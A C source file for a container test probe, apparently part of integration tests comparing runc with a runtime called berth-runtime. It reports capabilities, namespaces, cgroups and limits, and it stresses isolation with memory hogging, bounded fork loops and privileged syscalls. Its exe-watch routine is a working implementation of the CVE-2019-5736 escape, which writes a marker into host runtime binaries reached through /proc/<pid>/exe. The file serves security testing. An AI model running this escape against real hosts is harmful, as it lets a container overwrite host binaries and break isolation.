// probe: a tiny static binary that runs as a container's PID 1 (or an exec'd process) and reports what it
// sees as ONE JSON object on stdout. The integration tests run the same bundle under runc and berth-runtime
// and compare the reports.
//
//   probe json [CHECK...]    identity, caps, namespaces, cgroup limits, fds, rlimits, sysctls, env, ...
//                            CHECK is a path (exists/readable/writable/type/first line are reported)
//   probe exit N             exit with status N
//   probe memhog MB          touch MB MiB of memory (1 MiB at a time), then report; expected to be OOM-killed
//   probe forkbomb N         try to fork N children, report how many succeeded, reap them
//   probe syscall NAME       make one syscall and report its return value and errno
//   probe sleep S            sleep S seconds (fractions allowed)
//   probe write PATH         create/truncate PATH and write to it, report the errno
//   probe signal-wait [N]    print {"ready":true}, wait for a signal (not SIGURG/SIGWINCH), report it, exit
//                            128+sig (or N)
//   probe isatty             report which of fds 0-2 are terminals
//   probe exe-watch S        for S seconds, grab /proc/<pid>/exe of every other process and keep trying to
//                            open it for writing (the CVE-2019-5736 attack); report what succeeded
//   probe cat PATH           copy a file to stdout (raw)
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/types.h>
#include <sys/utsname.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

extern char** environ;

// ---- minimal JSON writer -------------------------------------------------------------------------------
static int need_comma;

static void jraw(const char* s) { fputs(s, stdout); }

static void jstr(const char* s) {
  putchar('"');
  for (const unsigned char* p = (const unsigned char*)s; *p; p++) {
    switch (*p) {
      case '"': jraw("\\\""); break;
      case '\\': jraw("\\\\"); break;
      case '\n': jraw("\\n"); break;
      case '\r': jraw("\\r"); break;
      case '\t': jraw("\\t"); break;
      default:
        if (*p < 0x20 || *p >= 0x7f)
          printf("\\u%04x", *p);  // bytes, not code points: keeps the output valid JSON for any input
        else
          putchar(*p);
    }
  }
  putchar('"');
}

static void jsep(void) {
  if (need_comma) putchar(',');
  need_comma = 1;
}
static void jkey(const char* k) {
  jsep();
  jstr(k);
  putchar(':');
  need_comma = 0;
}
static void jopen(const char* k, char c) {
  if (k)
    jkey(k);
  else
    jsep();
  putchar(c);
  need_comma = 0;
}
static void jclose(char c) {
  putchar(c);
  need_comma = 1;
}
static void jkv_str(const char* k, const char* v) {
  jkey(k);
  if (v)
    jstr(v);
  else
    jraw("null");
  need_comma = 1;
}
static void jkv_int(const char* k, long long v) {
  jkey(k);
  printf("%lld", v);
  need_comma = 1;
}
static void jkv_bool(const char* k, int v) {
  jkey(k);
  jraw(v ? "true" : "false");
  need_comma = 1;
}
static void jval_int(long long v) {
  jsep();
  printf("%lld", v);
}
static void jval_str(const char* v) {
  jsep();
  jstr(v);
}

// ---- helpers -------------------------------------------------------------------------------------------
// Reads up to cap-1 bytes of a file; returns NULL if it cannot be opened. Trailing newlines are trimmed.
static char* read_small(const char* path, char* buf, size_t cap) {
  int fd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
  if (fd < 0) return NULL;
  size_t n = 0;
  while (n + 1 < cap) {
    ssize_t r = read(fd, buf + n, cap - 1 - n);
    if (r <= 0) break;
    n += (size_t)r;
  }
  close(fd);
  buf[n] = 0;
  while (n > 0 && (buf[n - 1] == '\n' || buf[n - 1] == ' ')) buf[--n] = 0;
  return buf;
}

// Value of "Key:" in /proc/self/status, whitespace-trimmed.
static char* status_field(const char* status, const char* key, char* out, size_t cap) {
  size_t kl = strlen(key);
  for (const char* p = status; p && *p;) {
    if (strncmp(p, key, kl) == 0 && p[kl] == ':') {
      const char* v = p + kl + 1;
      while (*v == ' ' || *v == '\t') v++;
      size_t n = 0;
      while (v[n] && v[n] != '\n' && n + 1 < cap) {
        out[n] = v[n];
        n++;
      }
      out[n] = 0;
      return out;
    }
    p = strchr(p, '\n');
    if (p) p++;
  }
  return NULL;
}

static const char* type_name(mode_t m) {
  if (S_ISREG(m)) return "file";
  if (S_ISDIR(m)) return "dir";
  if (S_ISLNK(m)) return "symlink";
  if (S_ISCHR(m)) return "char";
  if (S_ISBLK(m)) return "block";
  if (S_ISFIFO(m)) return "fifo";
  if (S_ISSOCK(m)) return "socket";
  return "other";
}

// ---- probe json ----------------------------------------------------------------------------------------
static void report_caps(const char* status) {
  static const char* const names[] = {"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"};
  char v[64];
  jopen("caps", '{');
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) jkv_str(names[i], status_field(status, names[i], v, sizeof v));
  jclose('}');
}

static void report_namespaces(void) {
  static const char* const ns[] = {"cgroup", "ipc", "mnt", "net", "pid", "pid_for_children", "time",
                                   "time_for_children", "user", "uts"};
  jopen("namespaces", '{');
  for (size_t i = 0; i < sizeof ns / sizeof *ns; i++) {
    char path[64], target[128];
    snprintf(path, sizeof path, "/proc/self/ns/%s", ns[i]);
    ssize_t n = readlink(path, target, sizeof target - 1);
    if (n < 0) {
      jkv_str(ns[i], NULL);
      continue;
    }
    target[n] = 0;
    jkv_str(ns[i], target);
  }
  jclose('}');
}

// Finds FILE of a cgroup controller by the paths in /proc/self/cgroup: first the process's own cgroup
// directory under the mounted hierarchy, then the hierarchy's root (what a container sees when its cgroup
// is bind-mounted at the root, or when it has its own cgroup namespace).
static int cgroup_read(const char* cgroup_file, const char* controller, const char* file, char* out, size_t cap) {
  char line[512];
  FILE* f = fopen("/proc/self/cgroup", "re");
  if (!f) return 0;
  int found = 0;
  while (!found && fgets(line, sizeof line, f)) {
    line[strcspn(line, "\n")] = 0;
    char* c1 = strchr(line, ':');
    if (!c1) continue;
    char* c2 = strchr(c1 + 1, ':');
    if (!c2) continue;
    *c2 = 0;
    const char* ctrls = c1 + 1;
    const char* path = c2 + 1;
    char dirs[3][256];
    int ndirs = 0;
    if (controller == NULL) {  // cgroup v2
      if (*ctrls) continue;
      snprintf(dirs[ndirs++], sizeof dirs[0], "/sys/fs/cgroup");
      snprintf(dirs[ndirs++], sizeof dirs[0], "/sys/fs/cgroup/unified");
    } else {
      // ctrls is a comma list, e.g. "cpu,cpuacct".
      char tmp[128];
      snprintf(tmp, sizeof tmp, "%s", ctrls);
      int match = 0;
      for (char *save = NULL, *t = strtok_r(tmp, ",", &save); t; t = strtok_r(NULL, ",", &save))
        if (strcmp(t, controller) == 0) match = 1;
      if (!match) continue;
      snprintf(dirs[ndirs++], sizeof dirs[0], "/sys/fs/cgroup/%s", ctrls);
      if (strcmp(ctrls, controller) != 0) snprintf(dirs[ndirs++], sizeof dirs[0], "/sys/fs/cgroup/%s", controller);
    }
    for (int i = 0; i < ndirs && !found; i++) {
      char p[1024];
      snprintf(p, sizeof p, "%s%s/%s", dirs[i], strcmp(path, "/") == 0 ? "" : path, file);
      if (read_small(p, out, cap)) {
        found = 1;
        break;
      }
      snprintf(p, sizeof p, "%s/%s", dirs[i], file);
      if (read_small(p, out, cap)) found = 1;
    }
  }
  fclose(f);
  (void)cgroup_file;
  return found;
}

static void report_cgroups(void) {
  static const struct {
    const char* controller;  // NULL: v2
    const char* file;
  } files[] = {
      {"memory", "memory.limit_in_bytes"},
      {"memory", "memory.soft_limit_in_bytes"},
      {"memory", "memory.memsw.limit_in_bytes"},
      {"pids", "pids.max"},
      {"cpu", "cpu.cfs_quota_us"},
      {"cpu", "cpu.cfs_period_us"},
      {"cpu", "cpu.shares"},
      {"cpuset", "cpuset.cpus"},
      {"cpuset", "cpuset.mems"},
      {"blkio", "blkio.weight"},
      {NULL, "memory.max"},
      {NULL, "pids.max"},
      {NULL, "cpu.max"},
      {NULL, "cpu.weight"},
  };
  char line[4096];
  jopen("cgroup_raw", '[');
  FILE* f = fopen("/proc/self/cgroup", "re");
  if (f) {
    while (fgets(line, sizeof line, f)) {
      line[strcspn(line, "\n")] = 0;
      jval_str(line);
    }
    fclose(f);
  }
  jclose(']');
  jopen("cgroup", '{');
  for (size_t i = 0; i < sizeof files / sizeof *files; i++) {
    char key[96], v[256];
    snprintf(key, sizeof key, "%s%s", files[i].controller ? "v1:" : "v2:", files[i].file);
    jkv_str(key, cgroup_read("/proc/self/cgroup", files[i].controller, files[i].file, v, sizeof v) ? v : NULL);
  }
  jclose('}');
}

static void report_fds(void) {
  DIR* d = opendir("/proc/self/fd");
  jopen("fds", '[');
  if (d) {
    int self = dirfd(d);
    struct dirent* e;
    while ((e = readdir(d))) {
      if (e->d_name[0] == '.') continue;
      int fd = atoi(e->d_name);
      if (fd == self) continue;
      char p[64], t[PATH_MAX];
      snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
      ssize_t n = readlink(p, t, sizeof t - 1);
      t[n < 0 ? 0 : n] = 0;
      jopen(NULL, '{');
      jkv_int("fd", fd);
      jkv_str("target", n < 0 ? NULL : t);
      jclose('}');
    }
    closedir(d);
  }
  jclose(']');
}

static void report_rlimits(void) {
  static const struct {
    int res;
    const char* name;
  } rl[] = {
      {RLIMIT_AS, "RLIMIT_AS"},           {RLIMIT_CORE, "RLIMIT_CORE"},         {RLIMIT_CPU, "RLIMIT_CPU"},
      {RLIMIT_DATA, "RLIMIT_DATA"},       {RLIMIT_FSIZE, "RLIMIT_FSIZE"},       {RLIMIT_LOCKS, "RLIMIT_LOCKS"},
      {RLIMIT_MEMLOCK, "RLIMIT_MEMLOCK"}, {RLIMIT_MSGQUEUE, "RLIMIT_MSGQUEUE"}, {RLIMIT_NICE, "RLIMIT_NICE"},
      {RLIMIT_NOFILE, "RLIMIT_NOFILE"},   {RLIMIT_NPROC, "RLIMIT_NPROC"},       {RLIMIT_RSS, "RLIMIT_RSS"},
      {RLIMIT_RTPRIO, "RLIMIT_RTPRIO"},   {RLIMIT_RTTIME, "RLIMIT_RTTIME"},     {RLIMIT_SIGPENDING, "RLIMIT_SIGPENDING"},
      {RLIMIT_STACK, "RLIMIT_STACK"},
  };
  jopen("rlimits", '{');
  for (size_t i = 0; i < sizeof rl / sizeof *rl; i++) {
    struct rlimit r;
    if (getrlimit(rl[i].res, &r) != 0) continue;
    jopen(rl[i].name, '[');
    // -1 stands for RLIM_INFINITY.
    jval_int(r.rlim_cur == RLIM_INFINITY ? -1 : (long long)r.rlim_cur);
    jval_int(r.rlim_max == RLIM_INFINITY ? -1 : (long long)r.rlim_max);
    jclose(']');
  }
  jclose('}');
}

static void report_sysctls(void) {
  static const char* const names[] = {"kernel/hostname",   "kernel/domainname", "kernel/shmmax",     "kernel/msgmax",
                                      "kernel/msgmnb",     "kernel/sem",        "fs/mqueue/msg_max", "net/core/somaxconn",
                                      "net/ipv4/ip_forward", "net/ipv4/ping_group_range", "net/ipv4/ip_unprivileged_port_start"};
  jopen("sysctls", '{');
  for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
    char p[128], v[256], k[128];
    snprintf(p, sizeof p, "/proc/sys/%s", names[i]);
    snprintf(k, sizeof k, "%s", names[i]);
    for (char* c = k; *c; c++)
      if (*c == '/') *c = '.';
    char* got = read_small(p, v, sizeof v);
    if (got)
      for (char* c = got; *c; c++)
        if (*c == '\t') *c = ' ';
    jkv_str(k, got);
  }
  jclose('}');
}

static void report_check(const char* path) {
  struct stat st;
  jopen(NULL, '{');
  jkv_str("path", path);
  if (lstat(path, &st) != 0) {
    jkv_bool("exists", 0);
    jkv_int("errno", errno);
    jclose('}');
    return;
  }
  jkv_bool("exists", 1);
  jkv_str("type", type_name(st.st_mode));
  char mode[16];
  snprintf(mode, sizeof mode, "%04o", (unsigned)(st.st_mode & 07777));
  jkv_str("mode", mode);
  jkv_int("uid", st.st_uid);
  jkv_int("gid", st.st_gid);
  if (S_ISCHR(st.st_mode) || S_ISBLK(st.st_mode)) {
    char dev[32];
    snprintf(dev, sizeof dev, "%u:%u", major(st.st_rdev), minor(st.st_rdev));
    jkv_str("rdev", dev);
  }
  if (S_ISLNK(st.st_mode)) {
    char t[PATH_MAX];
    ssize_t n = readlink(path, t, sizeof t - 1);
    t[n < 0 ? 0 : n] = 0;
    jkv_str("link", t);
  }
  // Readable: open (and for regular/char files, read the first line; never block on a FIFO or device).
  int rfd = open(path, O_RDONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK | (S_ISDIR(st.st_mode) ? O_DIRECTORY : 0));
  jkv_bool("readable", rfd >= 0);
  if (rfd < 0) jkv_int("read_errno", errno);
  if (rfd >= 0 && S_ISREG(st.st_mode)) {
    char buf[257];
    ssize_t n = read(rfd, buf, sizeof buf - 1);
    if (n >= 0) {
      buf[n] = 0;
      buf[strcspn(buf, "\n")] = 0;
      jkv_str("head", buf);
      jkv_int("read_bytes", n);
    } else {
      jkv_int("read_errno", errno);
    }
  }
  if (rfd >= 0 && S_ISDIR(st.st_mode)) {
    DIR* d = fdopendir(rfd);
    long entries = 0;
    if (d) {
      struct dirent* e;
      while ((e = readdir(d)))
        if (strcmp(e->d_name, ".") != 0 && strcmp(e->d_name, "..") != 0) entries++;
      closedir(d);  // closes rfd
      rfd = -1;
    }
    jkv_int("entries", entries);
  }
  if (rfd >= 0) close(rfd);
  // Writable: for a directory make and remove a subdirectory; for anything else open for writing without
  // truncating or writing.
  int werr = 0;
  if (S_ISDIR(st.st_mode)) {
    char sub[PATH_MAX];
    snprintf(sub, sizeof sub, "%s/.probe-w-%d", path, (int)getpid());
    if (mkdir(sub, 0700) == 0)
      rmdir(sub);
    else
      werr = errno;
  } else if (!S_ISLNK(st.st_mode)) {
    int wfd = open(path, O_WRONLY | O_CLOEXEC | O_NOCTTY | O_NONBLOCK);
    if (wfd >= 0)
      close(wfd);
    else
      werr = errno;
  } else {
    werr = ELOOP;
  }
  jkv_bool("writable", werr == 0);
  if (werr) jkv_int("write_errno", werr);
  jclose('}');
}

static int cmd_json(int argc, char** argv) {
  char* status = malloc(1 << 16);
  if (!read_small("/proc/self/status", status, 1 << 16)) status[0] = 0;
  char buf[4096], v[256];
  struct utsname un;
  uname(&un);

  jopen(NULL, '{');
  jkv_str("hostname", un.nodename);
  jkv_str("domainname", un.domainname);
  jkv_int("pid", getpid());
  jkv_int("ppid", getppid());
  uid_t ru, eu, su;
  gid_t rg, eg, sg;
  getresuid(&ru, &eu, &su);
  getresgid(&rg, &eg, &sg);
  jkv_int("uid", ru);
  jkv_int("euid", eu);
  jkv_int("suid", su);
  jkv_int("gid", rg);
  jkv_int("egid", eg);
  jkv_int("sgid", sg);
  gid_t groups[256];
  int ng = getgroups(256, groups);
  jopen("groups", '[');
  for (int i = 0; i < ng; i++) jval_int(groups[i]);
  jclose(']');
  report_caps(status);
  jkv_str("no_new_privs", status_field(status, "NoNewPrivs", v, sizeof v));
  jkv_str("seccomp", status_field(status, "Seccomp", v, sizeof v));
  jkv_str("seccomp_filters", status_field(status, "Seccomp_filters", v, sizeof v));
  jkv_str("cpus_allowed", status_field(status, "Cpus_allowed_list", v, sizeof v));
  jkv_str("mems_allowed", status_field(status, "Mems_allowed_list", v, sizeof v));
  mode_t um = umask(0);
  umask(um);
  snprintf(v, sizeof v, "%04o", (unsigned)um);
  jkv_str("umask", v);
  jkv_str("cwd", getcwd(buf, sizeof buf));
  struct statvfs sv;
  jkv_bool("root_readonly", statvfs("/", &sv) == 0 && (sv.f_flag & ST_RDONLY));
  jkv_str("oom_score_adj", read_small("/proc/self/oom_score_adj", v, sizeof v));
  jkv_str("uid_map", read_small("/proc/self/uid_map", buf, sizeof buf));
  jkv_str("gid_map", read_small("/proc/self/gid_map", buf, sizeof buf));
  jkv_str("setgroups", read_small("/proc/self/setgroups", v, sizeof v));
  jkv_str("personality", (snprintf(v, sizeof v, "0x%x", (unsigned)personality(0xffffffff)), v));
  report_namespaces();
  report_cgroups();
  report_fds();
  report_rlimits();
  report_sysctls();
  jopen("env", '[');
  for (char** e = environ; e && *e; e++) jval_str(*e);
  jclose(']');
  jopen("checks", '[');
  for (int i = 0; i < argc; i++) report_check(argv[i]);
  jclose(']');
  jclose('}');
  putchar('\n');
  free(status);
  return 0;
}

// ---- other sub-commands --------------------------------------------------------------------------------
static int cmd_memhog(long mb) {
  long done = 0;
  const size_t chunk = 1 << 20;
  for (; done < mb; done++) {
    char* p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) break;
    for (size_t i = 0; i < chunk; i += 4096) p[i] = (char)(i + 1);
  }
  printf("{\"memhog_mb\":%ld,\"requested_mb\":%ld}\n", done, mb);
  return done == mb ? 0 : 1;
}

static int cmd_forkbomb(long n) {
  int pipefd[2];
  if (pipe2(pipefd, O_CLOEXEC) != 0) return 2;
  long ok = 0;
  int first_errno = 0;
  for (long i = 0; i < n; i++) {
    pid_t p = fork();
    if (p == 0) {
      char c;
      close(pipefd[1]);
      while (read(pipefd[0], &c, 1) < 0 && errno == EINTR) {
      }
      _exit(0);
    }
    if (p < 0) {
      first_errno = errno;
      break;
    }
    ok++;
  }
  close(pipefd[1]);  // children see EOF and exit
  long reaped = 0;
  while (wait(NULL) > 0) reaped++;
  printf("{\"forkbomb_requested\":%ld,\"forked\":%ld,\"reaped\":%ld,\"errno\":%d}\n", n, ok, reaped, first_errno);
  return 0;
}

static int cmd_syscall(const char* name) {
  long r;
  errno = 0;
  if (!strcmp(name, "mkdir")) {
    r = syscall(SYS_mkdir, "/tmp/.probe-mkdir", 0755);
    if (r == 0) rmdir("/tmp/.probe-mkdir");
  } else if (!strcmp(name, "getcwd")) {
    char b[PATH_MAX];
    r = syscall(SYS_getcwd, b, sizeof b);
  } else if (!strcmp(name, "personality")) {
    r = syscall(SYS_personality, 0xffffffffUL);
  } else if (!strcmp(name, "chroot")) {
    r = syscall(SYS_chroot, "/");
  } else if (!strcmp(name, "sethostname")) {
    r = syscall(SYS_sethostname, "probe", 5);
  } else if (!strcmp(name, "mount")) {
    r = syscall(SYS_mount, "none", "/tmp", "tmpfs", 0UL, NULL);
    if (r == 0) umount("/tmp");
  } else if (!strcmp(name, "unshare")) {
    r = syscall(SYS_unshare, CLONE_NEWUTS);
  } else if (!strcmp(name, "keyctl")) {
    r = syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0);
  } else if (!strcmp(name, "getpid")) {
    r = syscall(SYS_getpid);
  } else if (!strcmp(name, "uname")) {
    struct utsname u;
    r = syscall(SYS_uname, &u);
  } else if (!strcmp(name, "socket")) {
    r = syscall(SYS_socket, AF_INET, SOCK_STREAM, 0);
  } else if (!strcmp(name, "setuid")) {
    r = syscall(SYS_setuid, 0);
  } else if (!strcmp(name, "chmod")) {
    r = syscall(SYS_chmod, "/tmp", 01777);
  } else {
    fprintf(stderr, "probe: unknown syscall %s\n", name);
    return 2;
  }
  int e = r < 0 ? errno : 0;
  printf("{\"syscall\":\"%s\",\"ret\":%ld,\"errno\":%d}\n", name, r < 0 ? -1L : r, e);
  return 0;
}

static int cmd_write(const char* path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC | O_NOCTTY, 0644);
  int e = 0;
  if (fd < 0) {
    e = errno;
  } else {
    if (write(fd, "probe\n", 6) != 6) e = errno;
    close(fd);
  }
  printf("{\"write\":");
  jstr(path);
  printf(",\"ok\":%s,\"errno\":%d}\n", e ? "false" : "true", e);
  return 0;
}

static volatile sig_atomic_t got_signal;
static void on_signal(int s) { got_signal = s; }

static int cmd_signal_wait(int exit_code) {
  struct sigaction sa;
  memset(&sa, 0, sizeof sa);
  sa.sa_handler = on_signal;
  sigset_t all;
  sigfillset(&all);
  sigprocmask(SIG_BLOCK, &all, NULL);
  for (int s = 1; s < NSIG; s++)
    // SIGURG and SIGWINCH are not waited for: runc's foreground `run` forwards every signal it gets, and the
    // Go runtime sends itself SIGURG for preemption.
    if (s != SIGKILL && s != SIGSTOP && s != SIGCHLD && s != SIGURG && s != SIGWINCH) sigaction(s, &sa, NULL);
  printf("{\"ready\":true}\n");
  fflush(stdout);
  sigset_t none;
  sigemptyset(&none);
  while (!got_signal) sigsuspend(&none);
  printf("{\"signal\":%d}\n", (int)got_signal);
  fflush(stdout);
  return exit_code >= 0 ? exit_code : 128 + got_signal;
}

static int cmd_isatty(void) {
  printf("{\"stdin\":%s,\"stdout\":%s,\"stderr\":%s}\n", isatty(0) ? "true" : "false", isatty(1) ? "true" : "false",
         isatty(2) ? "true" : "false");
  return 0;
}

// CVE-2019-5736: a process in the container holds /proc/<pid>/exe of a runtime-side process that joined the
// container (for example during `exec`), and re-opens it for writing once the runtime binary no longer runs
// (ETXTBSY ends). A safe runtime either never exposes the host binary there (sealed memfd copy, read-only
// mount) or is not dumpable while it could be reached.
#define MAX_HELD 256
static int cmd_exe_watch(double seconds) {
  struct {
    pid_t pid;
    int fd;
    char target[256];
  } held[MAX_HELD];
  int nheld = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  char self_target[PATH_MAX] = {0};
  ssize_t sl = readlink("/proc/self/exe", self_target, sizeof self_target - 1);
  if (sl < 0) self_target[0] = 0;
  long opened_for_write = 0, written = 0, seen = 0, denied = 0;
  char written_target[256] = {0};
  // Also the direct way: /proc/self/exe of this very process (must fail: ETXTBSY).
  int self_w = open("/proc/self/exe", O_WRONLY | O_CLOEXEC);
  int self_errno = self_w < 0 ? errno : 0;
  if (self_w >= 0) close(self_w);
  do {
    DIR* d = opendir("/proc");
    if (d) {
      struct dirent* e;
      while ((e = readdir(d))) {
        pid_t pid = (pid_t)atoi(e->d_name);
        if (pid <= 0 || pid == getpid()) continue;
        int known = 0;
        for (int i = 0; i < nheld; i++)
          if (held[i].pid == pid) known = 1;
        if (known || nheld >= MAX_HELD) continue;
        char p[64];
        snprintf(p, sizeof p, "/proc/%d/exe", pid);
        int fd = open(p, O_PATH | O_CLOEXEC);
        if (fd < 0) {
          if (errno == EACCES || errno == EPERM) denied++;
          continue;
        }
        seen++;
        held[nheld].pid = pid;
        held[nheld].fd = fd;
        ssize_t n = readlink(p, held[nheld].target, sizeof held[nheld].target - 1);
        held[nheld].target[n < 0 ? 0 : n] = 0;
        nheld++;
      }
      closedir(d);
    }
    for (int i = 0; i < nheld; i++) {
      if (held[i].fd < 0) continue;
      char p[64];
      snprintf(p, sizeof p, "/proc/self/fd/%d", held[i].fd);
      int w = open(p, O_WRONLY | O_CLOEXEC);
      if (w < 0) continue;  // ETXTBSY while it still runs, EACCES/EROFS/EPERM when protected
      opened_for_write++;
      // Write only to binaries from outside the container: a file that is reachable at the same path inside
      // the container (its own busybox, the probe) is left alone.
      struct stat hs, cs;
      int inside = fstat(held[i].fd, &hs) == 0 && stat(held[i].target, &cs) == 0 && hs.st_dev == cs.st_dev &&
                   hs.st_ino == cs.st_ino;
      if (!inside && strcmp(held[i].target, self_target) != 0) {
        if (pwrite(w, "#BERTH-PWNED#", 13, 0) == 13) {
          written++;
          snprintf(written_target, sizeof written_target, "%s", held[i].target);
        }
      }
      close(w);
      close(held[i].fd);
      held[i].fd = -1;
    }
    usleep(200);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while ((double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9 < seconds &&
           access("/tmp/exe-watch-stop", F_OK) != 0);
  printf("{\"exe_watch\":true,\"self_exe_write_errno\":%d,\"processes_seen\":%ld,\"denied\":%ld,"
         "\"opened_for_write\":%ld,\"written\":%ld,\"written_target\":",
         self_errno, seen, denied, opened_for_write, written);
  jstr(written_target);
  printf(",\"targets\":[");
  for (int i = 0; i < nheld; i++) {
    if (i) putchar(',');
    jstr(held[i].target);
  }
  printf("]}\n");
  return 0;
}

static int cmd_cat(const char* path) {
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  if (fd < 0) {
    fprintf(stderr, "probe: open %s: %s\n", path, strerror(errno));
    return 1;
  }
  char b[8192];
  ssize_t n;
  while ((n = read(fd, b, sizeof b)) > 0)
    if (write(1, b, (size_t)n) != n) return 1;
  close(fd);
  return 0;
}

static int usage(void) {
  fprintf(stderr,
          "usage: probe json [PATH...] | exit N | memhog MB | forkbomb N | syscall NAME | sleep S | write PATH |\n"
          "       signal-wait [EXIT] | isatty | exe-watch S | cat PATH\n");
  return 2;
}

int main(int argc, char** argv) {
  if (argc < 2) return cmd_json(0, NULL);
  const char* c = argv[1];
  int r;
  if (!strcmp(c, "json"))
    r = cmd_json(argc - 2, argv + 2);
  else if (!strcmp(c, "exit") && argc == 3)
    return atoi(argv[2]);
  else if (!strcmp(c, "memhog") && argc == 3)
    r = cmd_memhog(atol(argv[2]));
  else if (!strcmp(c, "forkbomb") && argc == 3)
    r = cmd_forkbomb(atol(argv[2]));
  else if (!strcmp(c, "syscall") && argc == 3)
    r = cmd_syscall(argv[2]);
  else if (!strcmp(c, "sleep") && argc == 3) {
    double s = atof(argv[2]);
    struct timespec ts = {(time_t)s, (long)((s - (double)(time_t)s) * 1e9)};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
    r = 0;
  } else if (!strcmp(c, "write") && argc == 3)
    r = cmd_write(argv[2]);
  else if (!strcmp(c, "signal-wait"))
    r = cmd_signal_wait(argc >= 3 ? atoi(argv[2]) : -1);
  else if (!strcmp(c, "isatty"))
    r = cmd_isatty();
  else if (!strcmp(c, "exe-watch") && argc == 3)
    r = cmd_exe_watch(atof(argv[2]));
  else if (!strcmp(c, "cat") && argc == 3)
    r = cmd_cat(argv[2]);
  else
    return usage();
  fflush(stdout);
  return r;
}
